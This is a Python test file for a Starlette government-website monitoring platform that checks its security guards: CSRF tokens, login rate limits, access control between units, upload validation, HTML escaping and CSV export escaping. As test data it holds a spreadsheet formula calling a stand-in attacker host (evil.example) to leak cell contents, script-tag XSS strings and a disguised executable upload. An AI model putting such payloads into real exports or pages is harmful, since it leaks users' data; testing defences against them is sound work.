"""The platform's guards, each against the attack it stops (Starlette's test client over the
city world: support/platform.py). Every test here fails when its guard is taken away."""

from __future__ import annotations

import re
from pathlib import Path

from starlette.testclient import TestClient
from support.platform import ELF, PASSWORD, PDF, PNG, sign_in, token_of

from govwatch.core.schema import open_db, open_read_only
from govwatch.platform import auth
from govwatch.platform.app import BodyLimit, create_app
from govwatch.platform.settings import (
    ADDRESS_FAILURES_PER_MINUTE,
    LOGIN_FAILURES_PER_MINUTE,
    SESSION_COOKIE,
    UPLOAD_MAX_BYTES,
)


def state(settings, issue_id: int) -> str:
    conn = open_read_only(settings.db_path)
    try:
        return conn.execute("select state from issues where id = ?", [issue_id]).fetchone()[0]
    finally:
        conn.close()


def answer(client: TestClient, issue_id: int, files, note: str = "已更新栏目"):
    return client.post(f"/issues/{issue_id}/answer", follow_redirects=False,
                       data={"csrftoken": token_of(client), "note": note}, files=files)


def test_the_session_cookie_is_httponly_and_samesite_and_secure_over_https(settings) -> None:
    plain = sign_in(TestClient(create_app(settings)), "jtj").headers["set-cookie"]
    assert plain.startswith(f"{SESSION_COOKIE}=")
    assert "HttpOnly" in plain and "SameSite=lax" in plain and "Secure" not in plain
    secure = sign_in(TestClient(create_app(settings), base_url="https://testserver"), "jtj")
    assert "Secure" in secure.headers["set-cookie"]


def test_every_change_needs_the_sessions_csrf_token(client_for, settings) -> None:
    sx, other = client_for("sx"), client_for("office")
    claim = {"contact": "李娜", "phone": "029-1234567"}
    for token in (None, "forged", token_of(other)):  # missing, made up, another session's
        data = claim if token is None else {**claim, "csrftoken": token}
        refused = sx.post("/issues/4/claim", data=data, follow_redirects=False)
        assert refused.status_code == 403
    refused = sx.post("/issues/4/claim", data=claim, headers={"x-csrftoken": "forged"})
    assert refused.status_code == 403
    assert state(settings, 4) == "overdue"
    done = sx.post("/issues/4/claim", data={**claim, "csrftoken": token_of(sx)},
                   follow_redirects=False)
    assert done.status_code == 303
    # the sign-in form is protected too: another site cannot post it
    stranger = TestClient(create_app(settings))
    assert stranger.post("/login", data={"login": "sx", "password": PASSWORD}).status_code == 403


def test_the_eleventh_wrong_password_within_a_minute_is_refused_even_with_the_right_one(
    settings, monkeypatch
) -> None:
    clock = [1_800_000_000.0]
    monkeypatch.setattr(auth.time, "time", lambda: clock[0])
    client = TestClient(create_app(settings))
    for _ in range(LOGIN_FAILURES_PER_MINUTE):
        assert sign_in(client, "jtj", "wrong password").status_code == 400
    refused = sign_in(client, "jtj")  # the right password, but too soon
    assert refused.status_code == 429 and SESSION_COOKIE not in refused.headers.get(
        "set-cookie", "")
    # another login is not held up
    assert sign_in(TestClient(create_app(settings)), "sx").status_code == 303
    clock[0] += 61
    assert sign_in(client, "jtj").status_code == 303


def test_a_unit_never_reaches_another_units_issue_proof_or_action(client_for) -> None:
    jtj, sx = client_for("jtj"), client_for("sx")
    assert answer(jtj, 1, {"proof": ("shot.png", PNG, "image/png")}).status_code == 303
    assert "/proofs/1" in jtj.get("/issues/1").text
    assert jtj.get("/proofs/1").status_code == 200
    listed = sx.get("/issues").text
    assert "/issues/4" in listed and "/issues/1" not in listed
    for path in ("/issues/1", "/issues/2", "/proofs/1", "/dashboard", "/issues.csv",
                 "/issues?unit=咸阳市交通运输局"):
        page = sx.get(path)
        assert page.status_code == 404 or "/issues/1" not in page.text, path
    token = token_of(sx)
    for action, data in (("claim", {"contact": "李娜", "phone": "123456"}),
                         ("dispute", {"reason": "不是我们的"}), ("answer", {"note": "改了"}),
                         ("confirm", {}), ("withdraw", {})):
        refused = sx.post(f"/issues/1/{action}", data={**data, "csrftoken": token},
                          files={"proof": ("p.png", PNG, "image/png")} if action == "answer"
                          else None, follow_redirects=False)
        assert refused.status_code == 404, action


def test_the_exports_and_the_scorecard_are_the_office_and_auditors_only(client_for,
                                                                       settings) -> None:
    # every unit's rows are in these: a unit's account finds nothing there
    settings.out_dir.mkdir(parents=True, exist_ok=True)
    (settings.out_dir / "scorecard-2026-10-20.xlsx").write_bytes(b"PK written")
    paths = ("/issues.csv", "/issues.xlsx", "/issues.xlsx?unit=咸阳市交通运输局",
             "/issues.xlsx?closed=1", "/dashboard.csv", "/dashboard.xlsx", "/scorecard",
             "/scorecard.csv", "/scorecard.xlsx", "/scorecard/files/scorecard-2026-10-20.xlsx")
    sx, auditor = client_for("sx"), client_for("auditor")
    for path in paths:
        assert auditor.get(path).status_code == 200, path
        assert sx.get(path).status_code == 404, path
    assert "/scorecard" not in sx.get("/issues").text  # nor is it in a unit's menu


def test_uploads_are_checked_by_content_capped_and_kept_out_of_reach(client_for,
                                                                      settings) -> None:
    jtj = client_for("jtj")
    renamed = answer(jtj, 1, {"proof": ("screenshot.png", ELF, "image/png")})
    assert renamed.status_code == 400 and "不是图片或 PDF" in renamed.text
    big = PNG + b"\0" * UPLOAD_MAX_BYTES
    assert "超过" in answer(jtj, 1, {"proof": ("big.png", big, "image/png")}).text
    assert state(settings, 1) == "overdue" and not settings.uploads_dir.exists()
    done = answer(jtj, 1, [("proof", ("整改前后.png", PNG, "image/png")),
                           ("proof", ("报告.pdf", PDF, "application/pdf"))])
    assert done.status_code == 303 and state(settings, 1) == "answered"
    stored = sorted(p.name for p in settings.uploads_dir.iterdir())
    assert len(stored) == 2 and all(re.fullmatch(r"[0-9a-f]{32}", name) for name in stored)
    static = Path(__file__).parents[2] / "govwatch" / "platform" / "static"
    assert static not in settings.uploads_dir.parents
    assert jtj.get(f"/static/{stored[0]}").status_code == 404
    proof = jtj.get("/proofs/1")
    assert proof.content == PNG and proof.headers["content-type"] == "image/png"
    assert proof.headers["content-disposition"].startswith("attachment;")
    assert "filename*=UTF-8''%E6%95%B4" in proof.headers["content-disposition"]


def test_an_oversized_body_is_refused_before_it_is_read() -> None:
    async def app(scope, receive, send):  # reads the body whole, as a form parser would
        while (await receive()).get("more_body"):
            pass
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"read"})

    client = TestClient(BodyLimit(app, 1000))
    assert client.post("/", content=b"x" * 1000).status_code == 200
    assert client.post("/", content=b"x" * 1001).status_code == 413

    def chunks():  # no Content-Length: counted as it arrives
        yield b"x" * 600
        yield b"x" * 600

    assert client.post("/", content=chunks()).status_code == 413


def test_crawled_text_is_shown_as_text(client_for) -> None:
    page = client_for("jtj").get("/issues/2").text  # a broken link's title holds a <script>
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;附件链接无法打开" in page
    assert "files/&lt;script&gt;alert(1)&lt;/script&gt;.pdf" in page


def test_an_auditor_reads_everything_and_changes_nothing(client_for, settings) -> None:
    db = open_db(settings.db_path)  # a crawled title a spreadsheet would run
    db["issues"].update(4, {"title": '=HYPERLINK("http://evil.example/?"&A1,"点此")'})
    db.close()
    auditor = client_for("auditor")
    assert "咸阳市某某县人民政府" in auditor.get("/dashboard").text
    assert auditor.get("/issues/4").status_code == 200
    assert "<form method=\"post\" action=\"/issues/4/claim\"" not in auditor.get("/issues/4").text
    export = auditor.get("/issues.csv")
    assert export.headers["content-disposition"].startswith("attachment;")
    lines = export.text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("编号,责任单位,网站") and len(lines) == 1 + 4
    assert ",\"'=HYPERLINK(" in export.text  # text in the cell, never a formula
    token = token_of(auditor)
    for path, data in (("/issues/4/claim", {"contact": "审计", "phone": "123456"}),
                       ("/issues/4/dispute", {"reason": "x"}), ("/bulletins/publish", {})):
        refused = auditor.post(path, data={**data, "csrftoken": token}, follow_redirects=False)
        assert refused.status_code == 403, path
    assert state(settings, 4) == "overdue"


def test_one_address_trying_many_logins_is_held_up_too(settings, monkeypatch) -> None:
    clock = [1_800_000_000.0]
    monkeypatch.setattr(auth.time, "time", lambda: clock[0])
    client = TestClient(create_app(settings))  # every request from the one address
    # one password tried across many logins: each login stays under its own limit
    for n in range(ADDRESS_FAILURES_PER_MINUTE):
        assert sign_in(client, f"staff{n % 7}", "Passw0rd2026").status_code == 400
    refused = sign_in(client, "sx")  # an existing login, its right password, but too soon
    assert refused.status_code == 429 and SESSION_COOKIE not in refused.headers.get(
        "set-cookie", "")
    clock[0] += 61
    assert sign_in(client, "sx").status_code == 303


def test_the_signing_secret_is_kept_beside_the_database_when_none_is_configured(
    settings
) -> None:
    import dataclasses
    import stat

    from govwatch.platform.settings import secret_path_for

    unset = dataclasses.replace(settings, csrf_secret=None)
    before = TestClient(create_app(unset))
    assert sign_in(before, "sx").status_code == 303
    token = token_of(before)
    kept = secret_path_for(settings.db_path)
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    # a restart: a form the browser still holds posts as before
    after = TestClient(create_app(unset), cookies=dict(before.cookies))
    claimed = after.post("/issues/4/claim", follow_redirects=False,
                         data={"contact": "李娜", "phone": "029-1234567", "csrftoken": token})
    assert claimed.status_code == 303
    assert kept.parent == settings.db_path.parent
